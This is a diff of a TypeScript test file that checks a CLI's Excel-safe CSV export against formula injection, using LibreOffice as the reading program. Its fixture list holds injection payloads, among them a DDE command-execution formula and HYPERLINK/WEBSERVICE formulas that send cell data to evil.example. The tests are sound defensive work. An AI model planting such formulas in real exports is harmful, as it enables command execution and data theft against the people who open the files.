@@ -3,57 +3,34 @@ import { readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { describe, expect, it } from 'vitest';
-import { startFaultServer, runAgainst, withServer } from '../support/run-against.ts';
-import { ModelService } from '../support/model-service.ts';
-import { runHere } from '../support/run-here.ts';
 import { needing, startProgram } from '../support/programs.ts';
+import { runAgainst } from '../support/run-against.ts';
 import { temporaryFolder } from '../support/temporary-folder.ts';
 
 /** Texts that some spreadsheet would run, from OWASP's list, public advisories, and what programs drop on reading. */
 const FORMULAS = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(1+1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  ' =1+1',
-  '\u00a0=1+1',
-  '\u0000=1+1',
-  '\ufeff=1+1',
-  '\u200b=1+1',
-  '＝1+1',
-  '＋1+1',
-  '－1+1',
-  '＠SUM(1)',
-  "=cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example/?"&A1,"here")',
-  '=WEBSERVICE("http://evil.example/")',
-  'a;=1+1',
-  'a;=1+1;b',
-  'a\t=1+1',
-  'a\n=1+1',
-  '"=1+1',
-  '";=1+1;"',
-  'a";=1+1;"',
-  '=1+1;=2+2',
+  ...['=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\u0000=1+1'],
+  ...['\ufeff=1+1', '\u200b=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', "=cmd|' /C calc'!A0"],
+  ...["-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"here")'],
+  ...['=WEBSERVICE("http://evil.example/")', 'a;=1+1', 'a;=1+1;b', 'a\t=1+1', 'a\n=1+1', '"=1+1'],
+  ...['";=1+1;"', 'a";=1+1;"', '=1+1;=2+2'],
 ];
 
-/** What is a number or a date stays one, negative or not. */
+/** What is a number or a date stays one, negative or not, as does good text. */
 const PLAIN = [
-  '-12.50',
-  '-1,234.56',
-  '-1.234,56',
-  '+5',
-  '1190.10',
-  '-5 %',
-  '2024-10-15',
-  '15.10.2024',
-  '10-15',
-  'x=1',
-  'a-b',
+  ...[
+    '-12.50',
+    '-1,234.56',
+    '-1.234,56',
+    '+5',
+    '1190.10',
+    '-5 %',
+    '2024-10-15',
+    '15.10.2024',
+    '10-15',
+    'x=1',
+  ],
+  ...['a-b', 'ïsland', '¼ kg', '×2', '½', 'łódź', 'ñandú', 'a=b'],
 ];
 
 const RECORDS = [
@@ -66,19 +43,20 @@ const RECORDS = [
 
 async function exported(...flags: string[]): Promise<string> {
   const args = ['issued', '--format', 'csv', ...flags];
-  const { code, text } = await runAgainst({ records: new ModelService({ issued: RECORDS }), args });
+  const { code, text } = await runAgainst({ records: { issued: RECORDS }, args });
   expect(code).toBe(0);
   return text;
 }
 
+const quoted = (cell: string): string => (/[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell);
+
 describe('--excel', () => {
-  it('leaves numbers and dates as they are', async () => {
-    const text = await exported('--excel', '--columns', 'id,amount,big,text');
-    const rows = text.split('\r\n');
-    PLAIN.forEach((plain, at) => {
-      const cell = plain.includes(',') ? `"${plain}"` : plain;
-      expect(rows).toContain(`${1000 + at},-12.50,-12345678901234567890,${cell}`);
-    });
+  it('leaves numbers, dates and good text as they are, and guards full-width formulas', async () => {
+    const rows = (await exported('--excel', '--columns', 'id,amount,big,text')).split('\r\n');
+    for (const [at, plain] of PLAIN.entries())
+      expect(rows).toContain(`${1000 + at},-12.50,-12345678901234567890,${quoted(plain)}`);
+    for (const formula of ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=1+1'])
+      expect(rows).toContain(`${FORMULAS.indexOf(formula)},,,'${formula}`);
   });
 
   it('begins no cell with what would be run, whatever separates them', async () => {
@@ -88,54 +66,34 @@ describe('--excel', () => {
       for (const separator of [',', ';', '\t'].filter((other) => other !== delimiter)) {
         // Read as by a program that splits there and knows no quotes.
         const cells = text.replace('\ufeff', '').split(new RegExp(`[${separator}\r\n]`));
-        const run = cells.filter(
-          (cell) =>
-            /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^ ?[-+][\d.,]+( %)?[\]}"]*$/.test(cell),
-        );
-        expect(run).toEqual([]);
+        const isRun = (cell: string): boolean =>
+          /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell) && !/^ ?[-+][\d.,]+( %)?[\]}"]*$/.test(cell);
+        expect(cells.filter(isRun)).toEqual([]);
       }
     }
   });
 
   it('is not for programs: plain csv is the service’s text', async () => {
     const text = await exported('--columns', 'text', '--no-header');
-    const quoted = (cell: string): string =>
-      /[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;
     expect(text).toBe([...FORMULAS, ...PLAIN].map((cell) => `${quoted(cell)}\n`).join(''));
-  });
-});
-
-describe('--excel in the built program', () => {
-  it('guards full-width formulas and leaves good text beyond ASCII alone', async () => {
-    const formulas = ['＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '=1+1'];
-    const texts = [...formulas, 'ïsland', '¼ kg', '×2', '½', 'łódź', 'ñandú', '-12.50', 'a=b'];
-    const service = new ModelService({ issued: texts.map((text, id) => JSON.stringify({ id, text })) });
-    await withServer(await startFaultServer(service), async (server) => {
-      const env = { FOLIO_BASE_URL: server.baseUrl };
-      const args = ['issued', '--format', 'csv', '--excel', '--columns', 'text', '--no-header'];
-      const { code, stdout } = await runHere(args, { env });
-      const guarded = texts.map((text) => (formulas.includes(text) ? `'${text}` : text));
-      expect({ code, text: stdout.toString('utf8') }).toEqual({
-        code: 0,
-        text: `\ufeff${guarded.map((text) => `${text}\r\n`).join('')}`,
-      });
-    });
   });
 });
 
 /** The formulas that LibreOffice finds in each csv, which it is told to separate at these characters, by their codes. */
 async function formulasIn(tables: readonly string[], separators: string): Promise<string[][]> {
   const folder = temporaryFolder();
-  const names = tables.map((_, at) => `table${at}`);
-  for (const [at, name] of names.entries()) writeFileSync(join(folder, `${name}.csv`), tables[at]!);
+  const files = tables.map((table, at) => {
+    const file = join(folder, `table${at}.csv`);
+    writeFileSync(file, table);
+    return file;
+  });
   const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`;
   // Text in quotes, UTF-8, from line 1, any language, quoted fields not as text, special numbers detected, formulas run.
   const filter = `--infilter=CSV:${separators},34,76,1,,0,false,true,false,false,false,-1,true`;
-  const files = names.map((name) => join(folder, `${name}.csv`));
   const args = [profile, '--headless', filter, '--convert-to', 'fods', '--outdir', folder, ...files];
   await once(startProgram('soffice', args), 'exit');
-  return names.map((name) => {
-    const text = readFileSync(join(folder, `${name}.fods`), 'utf8');
+  return files.map((file) => {
+    const text = readFileSync(file.replace(/csv$/, 'fods'), 'utf8');
     return [...text.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula!);
   });
 }
